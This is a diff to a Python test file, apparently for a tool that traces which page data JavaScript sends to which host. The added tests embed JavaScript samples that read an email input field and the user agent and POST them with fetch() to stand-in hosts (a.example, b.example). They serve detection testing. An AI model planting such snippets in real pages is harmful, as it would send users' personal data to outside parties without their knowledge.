@@ -201,3 +201,23 @@ def test_a_host_with_an_unknown_label_passes_through_the_configuration(made: str
         " fetch('https://' + this.cfg.host + '/x', {method: 'POST', body: navigator.userAgent}); };"
     )
     assert [(flow.url, flow.host) for flow in flows_of(code.encode()).flows] == [(url, host)]
+
+
+_KEPT = "var kept = {}; function put(k, v) { kept[k] = v; } function get(k) { return kept[k]; }"
+
+
+def test_what_is_kept_under_one_name_is_not_found_under_another() -> None:
+    code = _KEPT + (
+        "put('a', document.getElementById('email').value); put('b', navigator.userAgent);"
+        "fetch('https://a.example', {method: 'POST', body: get('a')});"
+        "fetch('https://b.example', {method: 'POST', body: get('b')});"
+    )
+    assert sends(flows_of(code.encode())) == {"email>a.example", "device>b.example"}
+
+
+def test_what_is_kept_under_a_name_that_only_the_page_knows_may_be_any() -> None:
+    code = _KEPT + (
+        "put(window.name, document.getElementById('email').value);"
+        "fetch('https://a.example', {method: 'POST', body: get('a')});"
+    )
+    assert sends(flows_of(code.encode())) == {"email>a.example"}
